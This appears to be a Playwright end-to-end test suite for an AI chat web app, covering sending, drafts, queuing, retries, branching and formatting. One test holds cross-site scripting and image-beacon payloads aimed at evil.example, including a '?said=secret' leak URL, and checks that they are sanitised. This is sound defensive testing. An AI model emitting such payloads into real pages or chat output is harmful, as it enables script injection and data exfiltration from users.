import { typeInto } from './type-into.ts'
import { release } from './test-server.ts'
import { expectTokens } from './numbered-tokens.ts'
import {
  answers,
  composer,
  contentOf,
  expectLive,
  expectStatus,
  lastAnswer,
  messageIdOf,
  openStart,
  questions,
  send,
  sendButton,
  sidebarItem,
} from './page-parts.ts'
import { expect, test } from './test.ts'

test('Enter sends, Shift+Enter starts a line', async ({ page }) => {
  await expect(composer(page)).toBeFocused()
  await page.keyboard.type('say first line')
  await page.keyboard.press('Shift+Enter')
  await page.keyboard.type('second line')
  await expect(composer(page)).toHaveValue('say first line\nsecond line')
  await expect(questions(page)).toHaveCount(0)
  await page.keyboard.press('Enter')
  await expect(contentOf(questions(page))).toHaveText('say first line\nsecond line')
  await expectStatus(lastAnswer(page), 'completed')
  await expect(composer(page)).toHaveValue('')
  await expect(composer(page), 'one goes on writing').toBeFocused()
})

test('Enter that ends an input method composition does not send', async ({ page, context }) => {
  const session = await context.newCDPSession(page)
  const enter = { key: 'Enter', code: 'Enter', windowsVirtualKeyCode: 229 }
  await composer(page).focus()
  await page.keyboard.type('say ')
  await session.send('Input.imeSetComposition', { text: 'にほん', selectionStart: 3, selectionEnd: 3 })
  await session.send('Input.dispatchKeyEvent', { type: 'rawKeyDown', ...enter })
  await session.send('Input.dispatchKeyEvent', { type: 'keyUp', ...enter })
  await session.send('Input.insertText', { text: '日本' })
  await expect(composer(page)).toHaveValue('say 日本')
  await expect(questions(page)).toHaveCount(0)
  await page.keyboard.press('Enter')
  await expect(contentOf(questions(page))).toHaveText('say 日本')
})

test('blank text is not sent', async ({ page, server }) => {
  const calls = server.provider.calls
  for (const blank of ['', '   ', '\n\n', '\u200B\u2060']) {
    await typeInto(composer(page), blank)
    await expect(sendButton(page)).toBeDisabled()
    await composer(page).press('Enter')
    await expect(questions(page)).toHaveCount(0)
  }
  expect(new URL(page.url()).pathname).toBe('/')
  expect(server.provider.calls).toBe(calls)
})

test('a draft survives a reload, here and in another conversation, and is removed when it is sent', async ({ page }) => {
  await typeInto(composer(page), 'a first thought')
  await page.reload()
  await expect(composer(page)).toHaveValue('a first thought')
  const conversationId = await send(page, 'say Hello')
  await expectStatus(lastAnswer(page), 'completed')
  await typeInto(composer(page), 'half a sen')
  await page.getByTestId('new-conversation').click()
  await expect(composer(page), 'each conversation has its own').toHaveValue('')
  await expect(sidebarItem(page, conversationId).getByTestId('draft-mark')).toHaveText('(unsent draft)')
  await typeInto(composer(page), 'something else')
  await page.goto(`${new URL(page.url()).origin}/c/${conversationId}`)
  await expect(composer(page)).toHaveValue('half a sen')
  await expect(page.getByTestId('new-conversation').getByTestId('draft-mark')).toBeVisible()
  await expect(sidebarItem(page, conversationId).getByTestId('draft-mark'), 'what is open shows it itself').toHaveCount(0)
  await typeInto(composer(page), 'say Bye')
  await composer(page).press('Enter')
  await expectStatus(lastAnswer(page), 'completed')
  await page.reload()
  await expect(answers(page)).toHaveCount(2)
  await expect(composer(page)).toHaveValue('')
  await page.getByTestId('new-conversation').click()
  await expect(page.getByTestId('draft-mark'), 'what was sent is no draft').toHaveCount(0)
})

test('when Enter is set to start a line, it does so in every tab, and Ctrl+Enter sends', async ({ page, context, server }) => {
  await page.goto(`${server.url}/?settings=writing`)
  const other = await context.newPage()
  await openStart(other, server.url)
  await page.getByRole('radio', { name: /^Ctrl\+Enter sends/u }).check()
  await typeInto(composer(other), 'say One')
  await composer(other).press('Enter')
  await composer(other).pressSequentially('two')
  await expect(composer(other)).toHaveValue('say One\ntwo')
  await composer(other).press('ControlOrMeta+Enter')
  await expect(contentOf(lastAnswer(other))).toContainText('two')
})

test('a long question is collapsed; it expands on request, and when find matches in it', async ({ page }) => {
  const log = Array.from({ length: 60 }, (_, index) => `line ${index + 1} of a log`).join('\n')
  await send(page, `say Short.\n\n${log}`)
  await expectStatus(lastAnswer(page), 'completed')
  const question = contentOf(questions(page))
  const showAll = questions(page).getByTestId('show-all')
  const height = async () => (await question.boundingBox())?.height ?? 0
  await expect(showAll).toHaveText('Show all 62 lines')
  expect(await height()).toBeLessThan(400)
  await showAll.click()
  await expect(showAll).toHaveText('Show less')
  await expect.poll(height).toBeGreaterThan(1_000)
  await showAll.click()
  await expect.poll(height).toBeLessThan(400)
  await expect(showAll).toBeInViewport()
  await page.keyboard.press('ControlOrMeta+F')
  await page.keyboard.type('line 55 of')
  await expect(showAll).toHaveText('Show less')
  await page.reload()
  await expect(showAll, 'what was opened stays open').toHaveText('Show less')
})

test('a draft appears on another device', async ({ page, api }) => {
  const conversationId = await send(page, 'say Hello')
  await expectStatus(lastAnswer(page), 'completed')
  await typeInto(composer(page), 'begun here')
  await expect.poll(async () => (await api.drafts.get.query({ conversationId })).content).toBe('begun here')
})

test('a double click on Send sends one message', async ({ page, server, api }) => {
  const calls = server.provider.calls
  await typeInto(composer(page), 'say Once')
  await sendButton(page).dblclick()
  await page.waitForURL('**/c/*')
  await expectStatus(lastAnswer(page), 'completed')
  await expect(questions(page)).toHaveCount(1)
  expect(server.provider.calls - calls).toBe(1)
  const { items } = await api.conversations.list.query({})
  expect(items.map(({ messageCount }) => messageCount)).toEqual([2])
})

test('messages that are sent during an answer are queued in order, also when the tab is closed', async ({
  page,
  context,
  server,
  api,
}) => {
  const calls = server.provider.calls
  const conversationId = await send(page, 'tokens 60 at 100 hold after 40')
  await expectTokens(lastAnswer(page), 10)
  for (const content of ['say Second', 'say Third', 'say Fourth']) {
    await typeInto(composer(page), content)
    await composer(page).press('Enter')
    await expect(composer(page)).toHaveValue('')
  }
  await expect(answers(page)).toHaveCount(4)
  for (const index of [1, 2, 3]) {
    await expectStatus(answers(page).nth(index), 'queued')
    await expect(answers(page).nth(index)).toContainText('Queued')
  }
  // Queued messages are on the server, and need no open page to be answered.
  await page.close()
  await release(server)
  await expect.poll(async () => (await api.messages.status.query({ conversationId })).hasActiveGeneration).toBe(false)
  const reopened = await context.newPage()
  await reopened.goto(`${server.url}/c/${conversationId}`)
  await expect(answers(reopened)).toHaveCount(4)
  for (const index of [0, 1, 2, 3]) await expectStatus(answers(reopened).nth(index), 'completed')
  expect(await contentOf(answers(reopened)).allTextContents()).toEqual([
    expect.stringContaining('t60'),
    'Second',
    'Third',
    'Fourth',
  ])
  await expect(questions(reopened)).toHaveCount(4)
  expect(server.provider.calls - calls, 'one call of the provider for each').toBe(4)
})

test('10,000 characters are a message, 10,001 would be a text file, and no text is lost', async ({ page }) => {
  const tooLong = `say ${'x'.repeat(9_996)}!`
  await typeInto(composer(page), tooLong)
  await expect(page.getByTestId('will-be-file')).toBeVisible()
  await expect(sendButton(page)).toBeEnabled()
  await expect(composer(page)).toHaveValue(tooLong)
  await composer(page).press('End')
  await composer(page).press('ControlOrMeta+End')
  await composer(page).press('Backspace')
  await expect(page.getByText('10,000 of 10,000')).toBeVisible()
  await sendButton(page).click()
  await expectStatus(lastAnswer(page), 'completed')
  expect((await contentOf(lastAnswer(page)).textContent())?.length).toBe(9_996)
})

test('regenerating adds a version beside the first, and both can be read', async ({ page }) => {
  await send(page, 'say Hello')
  await expectStatus(lastAnswer(page), 'completed')
  const first = await messageIdOf(lastAnswer(page))
  await lastAnswer(page).getByTestId('regenerate').click()
  const versions = lastAnswer(page).getByTestId('branch-switcher')
  await expect(versions).toContainText('2 / 2')
  await expectStatus(lastAnswer(page), 'completed')
  const second = await messageIdOf(lastAnswer(page))
  expect(second).not.toBe(first)
  await versions.getByRole('button', { name: 'Previous version' }).click()
  await expect(versions).toContainText('1 / 2')
  expect(await messageIdOf(lastAnswer(page))).toBe(first)
  await page.reload()
  await expect(versions, 'this tab stays with its choice').toContainText('1 / 2')
  await versions.getByRole('button', { name: 'Next version' }).click()
  await expect(versions).toContainText('2 / 2')
  expect(await messageIdOf(lastAnswer(page))).toBe(second)
})

test('editing a question starts a branch; the messages below the first version stay', async ({ page, api }) => {
  const conversationId = await send(page, 'say One')
  await expectStatus(lastAnswer(page), 'completed')
  await send(page, 'say Two')
  await expect(answers(page)).toHaveCount(2)
  await expectStatus(lastAnswer(page), 'completed')
  const firstQuestion = questions(page).first()
  await firstQuestion.hover()
  await firstQuestion.getByTestId('edit').click()
  await typeInto(page.getByTestId('edit-input'), 'say Uno')
  await page.getByTestId('edit-send').click()
  await expect(contentOf(lastAnswer(page))).toHaveText('Uno')
  await expect(answers(page)).toHaveCount(1)
  await expect(firstQuestion.getByTestId('branch-switcher')).toContainText('2 / 2')
  await firstQuestion.getByRole('button', { name: 'Previous version' }).click()
  await expect(answers(page)).toHaveCount(2)
  await expect(contentOf(lastAnswer(page))).toHaveText('Two')
  expect((await api.messages.list.query({ conversationId })).messageCount).toBe(6)
})

test('a provider that fails twice is retried, and the page says so', async ({ page, server }) => {
  const calls = server.provider.calls
  await send(page, 'error 503 x2 then tokens 5')
  await expect(page.getByTestId('retry-notice')).toContainText(
    /scripted-1 is overloaded\. Retrying (?:now|in \d+ s) \(attempt [23] of 3\)/u,
  )
  await expectStatus(lastAnswer(page), 'completed')
  await expect(contentOf(lastAnswer(page))).toHaveText(/^t1 t2 t3 t4 t5/u)
  expect(server.provider.calls - calls).toBe(3)
})

test('when a provider fails in mid-answer for good, the text stays, the reason is shown, and Try again adds a version', async ({
  page,
}) => {
  await send(page, 'tokens 50 at 100 cut after 20')
  await expectStatus(lastAnswer(page), 'error')
  // Tokens that are on the wire when the connection breaks may be lost.
  const shown = await expectTokens(lastAnswer(page), 1)
  await expect(lastAnswer(page)).toContainText('Everything so far is saved.')
  await expect(lastAnswer(page).getByTestId('continue')).toBeVisible()
  await page.reload()
  expect(await expectTokens(lastAnswer(page), 1)).toBe(shown)
  await lastAnswer(page).getByTestId('regenerate').click()
  await expect(lastAnswer(page).getByTestId('branch-switcher')).toContainText('2 / 2')
})

test('output of a model cannot run, load or send anything', async ({ page, server }) => {
  const dialogs: string[] = []
  const foreign: string[] = []
  page.on('dialog', async (dialog) => {
    dialogs.push(dialog.message())
    await dialog.dismiss()
  })
  page.on('request', (request) => {
    if (!request.url().startsWith(server.url) && !request.url().startsWith('data:')) foreign.push(request.url())
  })
  page.on('console', (line) => {
    if (line.text().includes('stolen')) foreign.push(line.text())
  })
  const hostile = [
    '<img src="https://evil.example/a.png" onerror="alert(1)">',
    '<script>alert(2)</script>',
    '<iframe src="https://evil.example/frame"></iframe>',
    '<style>body { background: url(https://evil.example/b.png) }</style>',
    '![a picture](https://evil.example/c.png?said=secret)',
    '![by reference][pixel]',
    '[click](javascript:alert(3)) [data](data:text/html,<script>alert(4)</script>) [vb](vbscript:msgbox)',
    '[fine](https://example.org/page)',
    '<a href="https://evil.example" onclick="alert(5)">raw</a>',
    '',
    '[pixel]: https://evil.example/d.png',
  ].join('\n\n')
  await send(page, `say ${hostile}`)
  await expectStatus(lastAnswer(page), 'completed')
  const content = contentOf(lastAnswer(page))
  const fine = content.getByRole('link', { name: 'fine' })
  await expect(fine).toHaveAttribute('href', 'https://example.org/page')
  await expect(fine).toHaveAttribute('rel', /noopener/u)
  await expect(content.locator('img, script, iframe, style, object, embed, form, video, audio')).toHaveCount(0)
  await expect(content.locator('[onclick], [onerror], [style*=url]')).toHaveCount(0)
  const addresses = await content.locator('a').evaluateAll((links) => links.map((link) => link.getAttribute('href') ?? ''))
  expect(
    addresses.every((address) => /^(?:https?:|mailto:|#)/u.test(address)),
    addresses.join('\n'),
  ).toBe(true)
  await expect(content, 'a picture waits for a click, and says where it comes from').toContainText(
    'Show image: a picture (evil.example)',
  )
  await expect(content).toContainText('<script>alert(2)</script>')
  await page.reload()
  await expect(content).toContainText('Show image: a picture (evil.example)')
  expect(dialogs).toEqual([])
  expect(foreign).toEqual([])
})

test('tables, code and lists are formatted', async ({ page }) => {
  await send(page, 'say # Title\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```js\nconst x = 1\n```\n\n- one\n- two')
  await expectStatus(lastAnswer(page), 'completed')
  const content = contentOf(lastAnswer(page))
  await expect(content.getByRole('heading', { name: 'Title' })).toBeVisible()
  await expect(content.getByRole('cell', { name: '2' })).toBeVisible()
  await expect(content.locator('pre code')).toHaveText('const x = 1\n')
  await expect(content.getByRole('listitem')).toHaveCount(2)
})

test('the page can be used by keyboard alone', async ({ page, server }) => {
  await expect(composer(page)).toBeFocused()
  await page.keyboard.type('tokens 3000 at 50')
  await page.keyboard.press('Enter')
  await expectTokens(lastAnswer(page), 5)
  await page.keyboard.press('Escape')
  await expectStatus(lastAnswer(page), 'cancelled')
  await page.keyboard.press('ControlOrMeta+Shift+O')
  await expect(page).toHaveURL(`${server.url}/`)
  await expect(composer(page)).toBeFocused()
  await expectLive(page)
})
